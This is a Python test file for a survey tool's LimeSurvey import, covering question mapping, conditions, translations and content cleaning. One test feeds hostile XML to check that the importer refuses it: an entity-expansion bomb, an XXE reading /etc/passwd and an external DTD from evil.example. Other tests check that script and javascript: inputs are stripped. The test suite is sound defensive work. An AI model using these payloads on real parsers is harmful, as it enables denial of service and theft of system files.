"""Import of LimeSurvey structure files: the hand-written fixture and hostile files."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from surveys.errors import ValidationError
from surveys.exchange.limesurvey import apply_polarity, import_lss, negative_cue
from surveys.exchange.text_clean import clean_text, strip_expressions
from surveys.models import QuestionType, SurveyStatus
from surveys.translations import all_translations

FIXTURE = Path(__file__).parent / "data" / "limesurvey_survey_familien_2019.lss"
#: LimeSurvey 5 layout: empty question text, ExpressionScript, and/or relevance, three languages.
ROBUST = Path(__file__).parent / "data" / "limesurvey5_conditions_languages.lss"


@pytest.fixture()
def imported(session: Session):  # type: ignore[no-untyped-def]
    """The fixture imported into a draft survey."""
    return import_lss(session, FIXTURE.read_bytes(), actor=None)


def test_fixture_becomes_a_draft_with_sections_in_order(imported) -> None:  # type: ignore[no-untyped-def]
    survey = imported.survey
    assert survey.status == SurveyStatus.DRAFT
    assert survey.title == "Familienbefragung Delmenhorst 2019"
    assert survey.slug == "familienbefragung-delmenhorst-2019"
    assert "Bestandsanalyse" in survey.intro and "<p>" not in survey.intro
    assert survey.privacy_notice == "Ihre Angaben sind anonym."
    assert [s.title for s in survey.sections] == [
        "Familie und Arbeitswelt",
        "Bildung und Betreuung",
        "Wohnumfeld und Lebensqualität",
    ]
    assert survey.sections[0].description == "Fragen zur Vereinbarkeit von Familie und Beruf."
    # the text display (X) became part of the section text
    assert "Kitas und Schulen" in survey.sections[1].description


def test_common_types_are_mapped(imported) -> None:  # type: ignore[no-untyped-def]
    questions = {q.key: q for q in imported.survey.questions()}
    expected = {
        "kinder": QuestionType.SINGLE,
        "stadtteil": QuestionType.SINGLE,
        "betreuung": QuestionType.MULTI,
        "hindernisse": QuestionType.MULTI,
        "erwerb": QuestionType.YESNO,
        "arbeitgeber": QuestionType.TEXT,
        "stunden": QuestionType.NUMBER,
        "kitazufr": QuestionType.MATRIX,
        "wichtig": QuestionType.MATRIX,
        "erreich": QuestionType.MATRIX,
        "prio": QuestionType.RANKING,
        "gesamt": QuestionType.LIKERT,
        "wunsch": QuestionType.TEXT,
        "anmerkung": QuestionType.TEXT,
        "zuzug": QuestionType.DATE,
        "wege": QuestionType.MULTINUMBER,
    }
    assert {k: q.type for k, q in questions.items()} == expected
    kinder = questions["kinder"]
    assert kinder.required is True
    assert [(o.code, o.label) for o in kinder.options][:2] == [("A1", "keine"), ("A2", "ein Kind")]
    betreuung = questions["betreuung"]
    assert betreuung.text == "Welche Betreuungsangebote nutzen Sie?"
    assert [o.code for o in betreuung.options] == ["SQ001", "SQ002", "SQ003", "SQ004"]
    assert betreuung.settings["other"] is True
    assert questions["kitazufr"].settings["scale"] == ["1", "2", "3", "4", "5"]
    assert [i.text for i in questions["kitazufr"].items] == [
        "Kita-Plätze",
        "Öffnungszeiten der Kitas",
        "Schulen",
    ]
    assert questions["wichtig"].settings["scale"] == [
        "unwichtig",
        "eher unwichtig",
        "eher wichtig",
        "sehr wichtig",
    ]
    assert [o.label for o in questions["prio"].options][0] == "Kinderbetreuung"
    assert questions["wunsch"].settings["multiline"] is True
    # a simple relevance equation became a condition
    assert questions["arbeitgeber"].condition == {
        "match": "all",
        "rules": [{"question": "erwerb", "op": "equals", "value": "ja"}],
    }


def test_scripts_and_html_are_stripped(imported) -> None:  # type: ignore[no-untyped-def]
    questions = {q.key: q for q in imported.survey.questions()}
    assert questions["wunsch"].help_text == "Bitte keine Namen nennen."
    assert "<img" not in questions["anmerkung"].text
    assert "alert" not in questions["wunsch"].help_text


def test_every_skipped_element_is_reported_with_a_reason(imported) -> None:  # type: ignore[no-untyped-def]
    messages = "\n".join(imported.skipped_messages())
    assert "Fragetyp Datum" not in messages and "Zahleneingabe wird nicht" not in messages
    converted = imported.converted_messages()
    assert "Frage Zuzug: als Datum übernommen" in converted
    assert "Frage Wege: als Mehrfache Zahleneingabe übernommen" in converted
    assert "Frage Hindernisse: Kommentarfelder" in messages
    assert "Frage Stunden: Bedingung" not in messages  # "and" of two comparisons is imported
    assert "Frage Erreich: Array „nach Spalte“" in messages
    assert "Frage Wunsch: Aktive Inhalte entfernt (script)" in messages
    assert "Frage Anmerkung: Aktive Inhalte entfernt (on*)" in messages


def test_slug_is_made_unique_on_second_import(session: Session) -> None:
    first = import_lss(session, FIXTURE.read_bytes(), actor=None)
    second = import_lss(session, FIXTURE.read_bytes(), actor=None)
    assert second.survey.slug == first.survey.slug + "-2"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<document><LimeSurveyDocType>Survey</LimeSurveyDocType><x>&lol3;</x></document>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<document><LimeSurveyDocType>Survey</LimeSurveyDocType><x>&xxe;</x></document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE document SYSTEM "http://evil.example/x.dtd">
<document><LimeSurveyDocType>Survey</LimeSurveyDocType></document>"""


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        (BILLION_LAUGHS, "Sicherheitsgründen"),
        (XXE, "Sicherheitsgründen"),
        (EXTERNAL_DTD, "Sicherheitsgründen"),
        (b"<document><unclosed></document>", "kein gültiges XML"),
        (b"PK\x03\x04 zip data", "nicht entpackt"),
        (b"", "leer"),
        (b"<document><LimeSurveyDocType>Group</LimeSurveyDocType></document>", "keine LimeSurvey"),
        (b"<html><body>hi</body></html>", "keine LimeSurvey"),
        (b"<document>" + b" " * (2 * 1024 * 1024) + b"</document>", "zu groß"),
    ],
)
def test_hostile_or_malformed_files_are_refused(
    session: Session, raw: bytes, fragment: str
) -> None:
    with pytest.raises(ValidationError) as exc:
        import_lss(session, raw, actor=None)
    assert fragment in exc.value.errors[0].render()
    assert exc.value.errors[0].field == "file"


def test_limesurvey3_inline_layout_is_read(session: Session) -> None:
    raw = (FIXTURE.parent / "limesurvey3_inline_languages.lss").read_bytes()
    result = import_lss(session, raw, actor=None, slug="alt-import")
    question = result.survey.questions()[0]
    assert question.text == "Frage eins"
    assert [o.label for o in question.options] == ["Ja", "Nein"]


def test_clean_text_keeps_text_and_drops_active_content() -> None:
    text, dropped = clean_text(
        '<p>Hallo &amp; <a href="javascript:x()">Link</a></p><style>p{}</style>'
    )
    assert text == "Hallo & Link"
    assert dropped == {"style"}


def test_entity_encoded_markup_is_stripped_too() -> None:
    text, dropped = clean_text(
        "Vorher &lt;script&gt;alert(1)&lt;/script&gt; &lt;b&gt;fett&lt;/b&gt;"
    )
    assert text == "Vorher fett"
    assert "script" in dropped
    assert clean_text("3 < 5 und 7 > 2")[0] == "3 < 5 und 7 > 2"


def test_negative_cues_are_found_as_words() -> None:
    assert negative_cue("Ich fühle mich oft allein.") == "allein"
    assert negative_cue("Ich habe keine Zeit für mich.") == "keine"
    assert negative_cue("Ich mache mir Sorgen um die Pflege.") == "Sorgen"
    assert negative_cue("Nachts habe ich Angst auf der Straße.") == "Angst"
    assert negative_cue("Sind Sie alleinerziehend?") is None
    assert negative_cue("Kita-Plätze") is None


def test_negatively_worded_items_are_only_suggested_until_staff_confirm(session: Session) -> None:
    raw = FIXTURE.read_bytes().replace(
        b"<![CDATA[\xc3\x96ffnungszeiten der Kitas]]>",
        "<![CDATA[Die Öffnungszeiten passen nicht zu meiner Arbeit]]>".encode(),
    )
    result = import_lss(session, raw, actor=None)
    kitazufr = next(q for q in result.survey.questions() if q.key == "kitazufr")
    assert not any(i.reversed for i in kitazufr.items)  # nothing reversed by itself
    candidates = result.polarity_candidates()
    assert [(c.question_key, c.text, c.cue) for c in candidates] == [
        ("kitazufr", "Die Öffnungszeiten passen nicht zu meiner Arbeit", "nicht")
    ]
    assert apply_polarity(session, result.survey, {"i999999", "q1"}, None) == 0  # foreign ids
    assert apply_polarity(session, result.survey, {candidates[0].field_value}, None) == 1
    assert [i.reversed for i in kitazufr.items] == [False, True, False]
    assert result.polarity_candidates() == []


@pytest.fixture()
def robust(session: Session):  # type: ignore[no-untyped-def]
    """The LimeSurvey 5 fixture with the awkward parts imported."""
    return import_lss(session, ROBUST.read_bytes(), actor=None)


def test_a_question_without_text_is_skipped_and_named(robust) -> None:  # type: ignore[no-untyped-def]
    keys = [q.key for q in robust.survey.questions()]
    assert "leer" not in keys and "nur" not in keys  # blank, and only an expression
    assert keys == ["kinder", "alter", "zufr", "fehlt", "betr", "wunsch", "grund", "hort"]
    messages = robust.skipped_messages()
    assert "Frage Leer: ohne Fragetext, nicht übernommen" in messages
    assert "Frage Nur: ohne Fragetext, nicht übernommen" in messages


def test_expressions_are_removed_from_texts_and_reported(robust) -> None:  # type: ignore[no-untyped-def]
    questions = {q.key: q for q in robust.survey.questions()}
    assert questions["fehlt"].text == "Sie haben Angaben gemacht.\nWas fehlt Ihnen?"
    assert questions["fehlt"].help_text == ""
    # braces with whitespace inside are not evaluated by LimeSurvey and stay text
    assert questions["hort"].text == "Was fehlt Ihnen im Hort? { bitte offen antworten }"
    messages = robust.skipped_messages()
    assert "Frage Fehlt: Ausdruck „{count(Kinder, Alter)}“ entfernt" in messages
    assert 'Frage Fehlt: Ausdruck „{if(Kinder == "A2", "Danke!", "")}“ entfernt' in messages
    assert "Frage Fehlt: Ausdruck „{Kinder.shown}“ entfernt" in messages
    assert not any("hort" in m.lower() and "Ausdruck" in m for m in messages)


def test_strip_expressions_keeps_unbalanced_braces() -> None:
    assert strip_expressions("a {b") == ("a {b", [])
    assert strip_expressions("{} und { x }") == ("{} und { x }", [])
    assert strip_expressions('{if(a, "}", b)} Text') == ("Text", ['{if(a, "}", b)}'])


def test_and_or_relevance_becomes_a_condition(robust) -> None:  # type: ignore[no-untyped-def]
    questions = {q.key: q for q in robust.survey.questions()}
    assert questions["fehlt"].condition == {
        "match": "all",
        "rules": [
            {"question": "kinder", "op": "equals", "value": "A2"},
            {"question": "alter", "op": "gt", "value": 3},
        ],
    }
    assert questions["betr"].condition["match"] == "any"
    assert questions["betr"].condition["rules"] == [
        {"question": "kinder", "op": "equals", "value": "A2"},
        {"question": "alter", "op": "answered", "value": None},
    ]
    # a chosen multiple-choice answer and a scale point, in braces, with &&
    assert questions["hort"].condition == {
        "match": "all",
        "rules": [
            {"question": "betr", "op": "contains", "value": "SQ002"},
            {"question": "zufr", "op": "le", "value": 2},
        ],
    }


def test_mixed_or_numeric_on_choice_relevance_stays_too_complex(robust) -> None:  # type: ignore[no-untyped-def]
    questions = {q.key: q for q in robust.survey.questions()}
    assert questions["wunsch"].condition is None
    assert questions["grund"].condition is None
    messages = robust.skipped_messages()
    assert (
        'Frage Wunsch: Bedingung „Kinder == "A2" and Alter > 3 or Zufr >= 4“ nicht übernommen '
        "(zu komplex)"
    ) in messages
    assert "Frage Grund: Bedingung „Kinder > 1“ nicht übernommen (zu komplex)" in messages


@pytest.mark.parametrize(
    ("relevance", "condition"),
    [
        ('Erwerb == "Y"', {"match": "all", "rules": [("erwerb", "equals", "ja")]}),
        (
            '((Erwerb.NAOK == "Y" and Kinder.NAOK != "A1"))',
            {"match": "all", "rules": [("erwerb", "equals", "ja"), ("kinder", "not_equals", "A1")]},
        ),
        (
            "Kinder eq 'A2' or Kinder == 'A3' || !is_empty(Stadtteil.NAOK)",
            {
                "match": "any",
                "rules": [
                    ("kinder", "equals", "A2"),
                    ("kinder", "equals", "A3"),
                    ("stadtteil", "answered", None),
                ],
            },
        ),
        (
            'Betreuung_SQ001 == "Y" and Betreuung_SQ002 != "Y"',
            {
                "match": "all",
                "rules": [("betreuung", "contains", "SQ001"), ("betreuung", "not_equals", "SQ002")],
            },
        ),
        ("(Kinder == 'A2' or Erwerb == 'Y') and Erwerb == 'N'", None),  # nested, mixed
        ("is_empty(Kinder)", None),  # "not answered" has no counterpart
        ('Erwerb == "Y" and Kinder == "A9"', None),  # unknown answer code
        ('Arbeitgeber == "Stadt"', None),  # text compared with a value
        ('Kinder == "A2" and Unbekannt == "Y"', None),  # no such earlier question
    ],
)
def test_relevance_equations(session: Session, relevance: str, condition) -> None:  # type: ignore[no-untyped-def]
    raw = FIXTURE.read_bytes().replace(
        b'<relevance><![CDATA[((Erwerb.NAOK == "Y" and Kinder.NAOK != "A1"))]]></relevance>',
        f"<relevance><![CDATA[{relevance}]]></relevance>".encode(),
    )
    result = import_lss(session, raw, actor=None)
    stunden = next(q for q in result.survey.questions() if q.key == "stunden")
    if condition is None:
        assert stunden.condition is None
        assert any(m.startswith("Frage Stunden: Bedingung") for m in result.skipped_messages())
    else:
        rules = [{"question": k, "op": o, "value": v} for k, o, v in condition["rules"]]
        assert stunden.condition == {"match": condition["match"], "rules": rules}


def test_further_supported_languages_become_translations(session: Session, robust) -> None:  # type: ignore[no-untyped-def]
    assert robust.languages == ["en"]
    english = all_translations(session, robust.survey)["en"]
    assert english["title"] == "Families 2024"
    assert english["section/1/title"] == "Your family"
    assert english["q/kinder/text"] == "How many children live with you?"
    assert english["q/kinder/option/A1"] == "none"
    assert english["q/kinder/option/A2"] == "one or more"
    assert english["q/alter/text"] == "How old is your youngest child?"  # expression removed
    assert english["q/betr/option/SQ001"] == "Day care"
    assert "q/betr/option/SQ002" not in english  # not translated: German stands in
    assert not any(path.startswith("q/leer/") for path in english)  # question not imported
    messages = robust.skipped_messages()
    assert "Sprache „fr“: wird nicht unterstützt, nicht übernommen" in messages
    assert "Sprache „en“: Ausdrücke aus der Übersetzung entfernt (1)" in messages
    assert "fr" not in all_translations(session, robust.survey)


def test_limesurvey3_further_language_becomes_a_translation(session: Session) -> None:
    raw = (FIXTURE.parent / "limesurvey3_inline_languages.lss").read_bytes()
    result = import_lss(session, raw, actor=None, slug="alt-import")
    assert result.languages == ["en"]
    english = all_translations(session, result.survey)["en"]
    assert english == {
        "section/1/title": "Group",
        "q/q1/text": "Question one",
        "q/q1/option/A1": "Yes",
    }


def test_leichte_sprache_is_read_from_de_easy(session: Session) -> None:
    raw = (
        ROBUST.read_bytes()
        .replace(
            b"<language>fr</language></languages>", b"<language>de-easy</language></languages>"
        )
        .replace(b"<language>fr</language>", b"<language>de-easy</language>")
    )
    result = import_lss(session, raw, actor=None)
    assert result.languages == ["en", "de-LS"]
    easy = all_translations(session, result.survey)["de-LS"]
    assert easy["q/kinder/text"] == "Combien d'enfants vivent avec vous ?"


# --- dates, numbers and dual scales (limesurvey5_dates_numbers.lss) ---------------------------

NUMBERS = Path(__file__).parent / "data" / "limesurvey5_dates_numbers.lss"


@pytest.fixture()
def numbers(session: Session):  # type: ignore[no-untyped-def]
    """The dates-and-numbers fixture imported into a draft survey."""
    return import_lss(session, NUMBERS.read_bytes(), actor=None)


def test_date_becomes_datum_with_its_bounds(numbers) -> None:  # type: ignore[no-untyped-def]
    questions = {q.key: q for q in numbers.survey.questions()}
    zuzug = questions["zuzug"]
    assert zuzug.type == QuestionType.DATE and zuzug.required is True
    assert zuzug.settings == {"min_date": "2020-01-01", "max_date": "2026-12-31"}
    assert questions["geburt"].type == QuestionType.DATE
    assert questions["geburt"].settings == {}
    assert "Frage Geburt: Datumsgrenze date_min „{TODAY}“ ist kein Datum, nicht übernommen" in (
        numbers.skipped_messages()
    )
    assert (
        "Frage Zuzug: als Datum übernommen (frühestens 01.01.2020, spätestens 31.12.2026)"
        in numbers.converted_messages()
    )


def test_multiple_numeric_becomes_mehrfache_zahleneingabe(numbers) -> None:  # type: ignore[no-untyped-def]
    kinder = next(q for q in numbers.survey.questions() if q.key == "kinder")
    assert kinder.type == QuestionType.MULTINUMBER
    assert [(i.key, i.text) for i in kinder.items] == [
        ("sq001", "0 bis 5 Jahre"),
        ("sq002", "6 bis 13 Jahre"),
        ("sq003", "14 bis 17 Jahre"),
    ]
    assert kinder.settings == {"integer": True, "min": 0, "max": 9, "sum_max": 10}
    assert kinder.help_text == "Bitte je Altersgruppe."
    assert (
        "Frage Kinder: als Mehrfache Zahleneingabe übernommen (ganze Zahlen, jede Zahl "
        "mindestens 0, jede Zahl höchstens 9, Summe höchstens 10)"
    ) in numbers.converted_messages()


def test_array_of_numbers_becomes_zahlen_matrix(numbers) -> None:  # type: ignore[no-untyped-def]
    questions = {q.key: q for q in numbers.survey.questions()}
    care = questions["betreuung"]
    assert care.type == QuestionType.NUMBERMATRIX
    assert [(i.key, i.text) for i in care.items] == [("kita", "Kita"), ("schule", "Schule")]
    assert [(o.code, o.label) for o in care.options] == [
        ("Kinder", "Kinder"),
        ("Stunden", "Stunden pro Woche"),
    ]
    assert care.settings == {"integer": True, "min": 0, "max": 60}
    # LimeSurvey's default drop-downs 1..10 become boxes with those bounds, and say so
    wege = questions["wege"]
    assert wege.settings == {"integer": True, "min": 1, "max": 10}
    converted = numbers.converted_messages()
    assert "Frage Betreuung: als Zahlen-Matrix übernommen (2 Zeilen × 2 Spalten, ganze " in (
        "\n".join(converted)
    )
    assert "Frage Wege: Auswahllisten als Zahlenfelder übernommen (von 1 bis 10)" in converted


def test_dual_scale_array_becomes_two_matrices(numbers) -> None:  # type: ignore[no-untyped-def]
    questions = {q.key: q for q in numbers.survey.questions()}
    first, second = questions["angebote_skala1"], questions["angebote_skala2"]
    assert first.type == second.type == QuestionType.MATRIX
    assert first.text == "Wie bewerten Sie diese Angebote? – Zufriedenheit"
    assert second.text == "Wie bewerten Sie diese Angebote? – Wichtigkeit"
    assert first.settings["scale"] == ["unzufrieden", "teils, teils", "zufrieden"]
    assert second.settings["scale"] == ["unwichtig", "wichtig"]
    assert (
        [i.text for i in first.items]
        == [i.text for i in second.items]
        == [
            "Familienzentrum",
            "Beratungsstelle",
        ]
    )
    assert [q.key for q in numbers.survey.questions()][-2:] == [first.key, second.key]
    assert (
        "Frage Angebote: Array mit zwei Skalen als 2 Matrizen übernommen "
        "(„angebote_skala1“ und „angebote_skala2“)"
    ) in numbers.converted_messages()


def test_nothing_of_the_new_types_is_skipped_as_unsupported(numbers) -> None:  # type: ignore[no-untyped-def]
    assert len(numbers.survey.questions()) == 7
    assert not any("nicht unterstützt" in m for m in numbers.skipped_messages())


def test_numbers_fixture_translations(session: Session, numbers) -> None:  # type: ignore[no-untyped-def]
    english = all_translations(session, numbers.survey)["en"]
    assert english["q/kinder/text"] == "How many children live in your household?"
    assert english["q/kinder/item/sq001"] == "0 to 5 years"
    assert english["q/betreuung/option/Kinder"] == "Children"


def test_imported_types_take_answers(session: Session, numbers) -> None:  # type: ignore[no-untyped-def]
    """The imported questions parse and store answers like designed ones."""
    from surveys.question_types import spec_for

    questions = {q.key: q for q in numbers.survey.questions()}
    kinder = questions["kinder"]
    value, errors = spec_for(kinder.type).parse(
        kinder, {"q-kinder-sq001": ["6"], "q-kinder-sq002": ["5"]}
    )
    assert value is None
    assert [e.render() for e in errors] == ["Die Summe darf höchstens 10 sein; sie ist jetzt 11."]
    zuzug = questions["zuzug"]
    raw = {"q-zuzug-day": ["1"], "q-zuzug-month": ["1"], "q-zuzug-year": ["2019"]}
    assert [e.render() for e in spec_for(zuzug.type).parse(zuzug, raw)[1]] == [
        "Das Datum muss am oder nach dem 01.01.2020 liegen."
    ]
